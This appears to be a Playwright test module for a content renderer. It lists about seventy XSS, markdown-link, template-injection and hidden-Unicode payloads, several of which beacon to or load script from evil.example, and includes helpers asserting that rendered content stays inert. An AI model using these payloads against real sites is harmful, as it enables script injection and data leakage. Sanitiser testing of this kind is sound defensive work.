// Texts that attack whoever reads them, and what must hold where they are shown.

import { expect } from "@playwright/test";

const BEACON = "https://evil.example/beacon";

/** Texts that would do something, if anything did more than show them. */
export const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  `<img src="${BEACON}.png">`,
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${BEACON}.png"/></svg>`,
  "<iframe src=javascript:alert(1)></iframe>",
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  `<link rel=stylesheet href=${BEACON}.css>`,
  `<style>@import "${BEACON}.css";</style>`,
  `<style>body{background:url(${BEACON}.png)}</style>`,
  "<form action=https://evil.example/><button>Approve</button></form>",
  "<a href=javascript:alert(1)>Approve</a>",
  "<a href=\"https://evil.example/\" ping=\"https://evil.example/ping\">x</a>",
  "</pre></code></section><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</textarea></title></style><script>alert(1)</script>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<x onclick=alert(1) style=position:fixed;inset:0>",
  "<div popover id=p onbeforetoggle=alert(1)></div>",
  "<script type=module>import 'https://evil.example/x.js'</script>",
  "<portal src=https://evil.example/>",
  "<isindex action=javascript:alert(1) type=image>",
  "[Approve](javascript:alert(1))",
  "[Approve](JaVaScRiPt:alert%281%29)",
  "[Approve](&#106;avascript:alert(1))",
  "[Approve](data:text/html,<script>alert(1)</script>)",
  "[Approve](vbscript:msgbox(1))",
  "[Approve](/t/acme-robotics/settings/security)",
  "[https://console.example.com](https://evil.example/)",
  "[x](https://evil.example/\"onmouseover=\"alert(1))",
  `![x](${BEACON}.png)`,
  `![x](${BEACON}.png "a" onerror=alert(1))`,
  `[![x](${BEACON}.png)](${BEACON})`,
  `[x]: ${BEACON}.png\n\n![x]`,
  "![x](javascript:alert(1))",
  "<https://evil.example/'onclick='alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\nx\n```",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
  "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
  "pay\u202Elave\u2066 the in\u200Bvoice \uFEFF\u2060",
  "a\u0001b\u001B[31mred\u0007\u007F\u0085",
  "\u{E0041}\u{E0042}hidden tag characters",
  "forbidden_actions: []\u2028- approve\u2029",
  `{"a":"</pre><script>alert(1)</script>","__proto__":{"x":1}}`,
  "--- a/<script>alert(1)</script>\n+++ b\n-<img src=x onerror=alert(1)>\n+<svg onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
  "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
  ">".repeat(5000),
];

/** From now on every page notes what the policy of its content stops; answers the requests to other places, as they come. */
export async function watched(page, server) {
  const outside = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith("data:")) outside.push(request.url());
  });
  await page.addInitScript(() => {
    globalThis.reports = [];
    document.addEventListener("securitypolicyviolation", (event) => globalThis.reports.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return outside;
}

/** Nothing in the element does anything, or is there without being seen; answers what its links are. */
export async function inert(content, text) {
  const found = await content.evaluate((element) => ({
    scripts: element.querySelectorAll("script, img, iframe, object, embed, style, link, video, base, meta, svg:not(.icon, .ribbon), form:not(.act)").length,
    handlers: [...element.querySelectorAll("*")].flatMap((child) => child.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
    links: [...element.querySelectorAll("a")].map((link) => `${link.protocol} ${link.rel}`),
    reports: globalThis.reports,
  }));
  expect(found.scripts, text).toBe(0);
  expect(found.handlers, text).toEqual([]);
  expect(found.reports, text).toEqual([]);
  expect(await content.innerText(), text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u2060\uFEFF\u{E0000}-\u{E007F}]/u);
  return found.links;
}
